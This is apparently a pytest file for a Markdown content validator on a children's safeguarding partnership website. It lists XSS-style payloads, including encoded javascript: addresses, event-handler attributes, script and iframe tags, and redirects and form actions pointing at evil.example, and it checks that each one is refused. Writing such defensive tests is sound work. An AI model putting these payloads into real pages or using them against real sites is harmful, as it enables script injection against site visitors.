"""Content HTML is a safe subset: hostile HTML, attributes, addresses and attribute lists are
refused naming the file and line; simple HTML, and any HTML shown as code, is allowed."""
import pytest

from helpers import Project, learning
from lscp_kit.rules.content_html import extension_problems, html_problems, page_problems

PATH = "content/learning/x.md"
FRONT = "---\ntitle: A guide\n---\n\nIntro.\n\n"  # the hostile line is line 7

HOSTILE = [
    ("<script>alert(1)</script>", "<script> is not allowed"),
    ("<ScRiPt>alert(1)</sCrIpT>", "<script> is not allowed"),
    ("< script>alert(1)</script>", "<script> is not allowed"),
    ("<script/src=//evil.example>", "<script> is not allowed"),
    ("<style>.md-content{display:none}</style>", "<style> is not allowed"),
    ('<iframe src="https://evil.example"></iframe>', "<iframe> is not allowed"),
    ('<iframe srcdoc="&lt;script&gt;x&lt;/script&gt;"></iframe>', "<iframe> is not allowed"),
    ('<object data="x.swf"></object>', "<object> is not allowed"),
    ('<embed src="x.swf">', "<embed> is not allowed"),
    ('<frameset><frame src="x"></frameset>', "<frameset> is not allowed"),
    ('<applet code="x"></applet>', "<applet> is not allowed"),
    ('<base href="https://evil.example/">', "<base> is not allowed"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta> is not allowed"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link> is not allowed"),
    ('<form action="https://evil.example"><input name="q"></form>', "<form> is not allowed"),
    ("<svg/onload=alert(1)>", "<svg> is not allowed"),
    ("<math><mi>x</mi></math>", "<math> is not allowed"),
    ("<template><p>held</p></template>", "<template> is not allowed"),
    ("<noscript>held</noscript>", "<noscript> is not allowed"),
    ('<bdo dir="rtl">txet</bdo>', "<bdo> is not allowed"),
    ("<marquee>hi</marquee>", "<marquee> is not one of the simple HTML elements"),
    ("<img src=x onerror=alert(1)>", "the onerror attribute (an event handler) is not allowed"),
    ("<details open ontoggle=alert(1)>x</details>", "the ontoggle attribute (an event handler)"),
    ('<p style="display:none">Child Z</p>', "the style attribute is not allowed"),
    ("<p hidden>Child Z</p>", "the hidden attribute is not allowed"),
    ('<span aria-hidden="true">Child Z</span>', "the aria-hidden attribute is not allowed"),
    ("<div popover>Child Z</div>", "the popover attribute is not allowed"),
    ("<a o&#110;click=alert(1)>x</a>", "the attribute name"),
    ('<a href="javascript:alert(1)">x</a>', "a javascript: address is not allowed"),
    ('<a href=" JaVaScRiPt:alert(1)">x</a>', "a javascript: address"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "a javascript: address"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "a javascript: address"),
    ('<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">', "a data: address"),
    ('<a href="vbscript:msgbox(1)">x</a>', "a vbscript: address"),
    ("[x](javascript:alert(1))", "a javascript: address"),
    ("![x](data:image/png;base64,AAAA)", "a data: address"),
    ("[x](java&#115;cript:alert(1))", "a javascript: address"),
    ("[ref]: vbscript:msgbox(1)", "a vbscript: address"),
    ('Some text.\n{: style="display:none" }', "the style attribute is not allowed"),
    ("Some text.\n{ hidden }", "the hidden attribute is not allowed"),
    ('## Heading {: onclick="alert(1)" }', "the onclick attribute (an event handler)"),
    ('[x](https://example.org){: onmouseover="alert(1)" }', "the onmouseover attribute"),
    ('[x](https://example.org){: href="javascript:alert(1)" }', "a javascript: address"),
    ("<!-- note: Child Z's real name is ... -->", "an HTML comment"),
    ('--8<-- "content/reviews/2026-hidden/index.md"', "a snippet marker"),
]

ORDINARY = [
    "| Agency | Actions |\n| --- | --- |\n| Police | 3 |",
    "<table>\n<tr><th>Agency</th><td>Police</td></tr>\n</table>",
    "<details>\n<summary>Read more</summary>\n\nMore text.\n\n</details>",
    '<abbr title="Local Safeguarding Children Partnership">LSCP</abbr> and line<br>break',
    "H<sub>2</sub>O, 1<sup>st</sup>, <kbd>Ctrl</kbd>, <mark>key</mark>",
    '<div markdown>\n*Emphasis* inside HTML.\n</div>',
    '<a href="https://example.org/x" title="x">x</a> <a href="../about/">about</a> <a href="mailto:a@b.org">mail</a>',
    '<img src="diagram.png" alt="A diagram" width="300">',
    "Use `<script>` and `<style onclick=x>` in code spans.",
    "```html\n<script>alert('documented')</script>\n<p style=\"x\" onclick=\"y\">\n```",
    "~~~\n<iframe src=javascript:x></iframe>\n--8<-- \"file.md\"\n~~~",
    "## A heading {: #anchor .class }",
    "Braces in prose {like this} and {once upon a time} are text.",
    "<https://example.org/?a=1&b=2> and <someone@example.org>",
    "Children under 5 <5 years> and a < b, 3 > 2.",
    "[Phone us](tel:01632960000) or [read](https://example.org/a_(b))",
]


@pytest.mark.parametrize("line, words", HOSTILE)
def test_hostile_html_is_refused_naming_file_and_line(line, words):
    found = [str(p) for p in page_problems(PATH, FRONT + line + "\n")]
    at = 7 + line.count("\n")  # an attribute list is on the line after its paragraph
    assert any(p.startswith(f"{PATH}: line {at}: ") and words in p for p in found), found


@pytest.mark.parametrize("text", ORDINARY)
def test_simple_html_and_html_in_code_are_allowed(text):
    assert page_problems(PATH, FRONT + text + "\n") == []


def test_the_message_says_what_was_found_and_what_to_do():
    found = [str(p) for p in page_problems("content/learning/x.md", "a\n" * 11 + "<script>x</script>\n")]
    assert found == ["content/learning/x.md: line 12: <script> is not allowed in content: remove it "
                     "(pages may hold simple HTML: tables, <details>, <abbr>, <br>)"]


def test_every_problem_of_every_page_is_reported_at_once():
    found = html_problems({"a.md": "<script>x</script>\n\n<p style=x>y</p>\n", "b.md": "<iframe></iframe>\n"})
    assert [(p.path, p.key) for p in found] == [("content/a.md", "line 1"), ("content/a.md", "line 3"),
                                                ("content/b.md", "line 1")]


def test_html_the_code_check_took_for_code_is_still_refused():
    """A code span opened inside a raw HTML block is not code: the rendered page is checked too."""
    found = [str(p) for p in page_problems(PATH, "<div>`</div><script>alert(1)</script>`\n")]
    assert any("<script> is not allowed" in p and "line 1" in p for p in found), found


def test_a_reference_link_with_its_address_on_the_next_line_is_checked():
    found = [str(p) for p in page_problems(PATH, "[x][r]\n\n[r]:\n    javascript:alert(1)\n")]
    assert any(p.startswith(f"{PATH}: line 3: a javascript: address") for p in found), found


def test_front_matter_is_not_read_as_html():
    assert page_problems(PATH, "---\ntitle: Using <br> in pages\n---\n\nText.\n") == []


@pytest.mark.parametrize("extensions, plugins, key, name", [
    (["attr_list", "pymdownx.snippets"], ["search"], "markdown_extensions", "pymdownx.snippets"),
    (["markdown_include.include"], [], "markdown_extensions", "markdown_include.include"),
    (["mdx_include"], [], "markdown_extensions", "mdx_include"),
    (["pymdownx.b64"], [], "markdown_extensions", "pymdownx.b64"),
    ([], ["search", "include-markdown"], "plugins", "include-markdown"),
    ([], ["macros"], "plugins", "macros"),
    ([], ["material/search", "monorepo"], "plugins", "monorepo"),
])
def test_extensions_that_read_other_files_are_refused(extensions, plugins, key, name):
    config = "plugins:\n  - search\nmarkdown_extensions:\n  - " + "\n  - ".join(extensions + plugins) + "\n"
    found = [str(p) for p in extension_problems(extensions, plugins, config)]
    assert len(found) == 1 and found[0].startswith(f"mkdocs.yml: {key}: {name} (line "), found


def test_the_kits_own_extensions_and_plugins_are_allowed():
    assert extension_problems(["toc", "tables", "fenced_code", "attr_list", "md_in_html", "admonition"],
                              ["search", "material/search"]) == []


def test_a_script_in_a_public_page_stops_the_build_naming_file_and_line(project: Project):
    project.item("learning/2026-guide.md", body="Intro.\n\n<script>fetch('/x')</script>\n", **learning())
    result = project.build()  # front matter is lines 1-7, the script line 11
    assert result.returncode != 0 and "Traceback" not in result.output
    assert "content/learning/2026-guide.md: line 11: <script> is not allowed in content" in result.output
    assert not project.site.exists()


def test_snippets_in_mkdocs_yml_stop_the_build(project: Project):
    config = project.root / "mkdocs.yml"
    config.write_text(config.read_text().replace("  - attr_list\n", "  - attr_list\n  - pymdownx.snippets\n"))
    result = project.build()
    assert result.returncode != 0 and "Traceback" not in result.output
    assert "mkdocs.yml: markdown_extensions: pymdownx.snippets (line " in result.output
    assert not project.site.exists()


def test_simple_html_and_documented_html_build(project: Project):
    body = "\n\n".join([ORDINARY[0], ORDINARY[2], ORDINARY[3], ORDINARY[8], ORDINARY[9]]) + "\n"
    project.item("learning/2026-guide.md", body=body, **learning())
    result = project.build()
    assert result.returncode == 0, result.output
    page = project.outputs()["learning/2026-guide/index.html"]
    assert "<details>" in page and "<abbr title=" in page and "<br>" in page and "<table>" in page
    assert "&lt;script&gt;alert(" in page and "<script>alert(" not in page
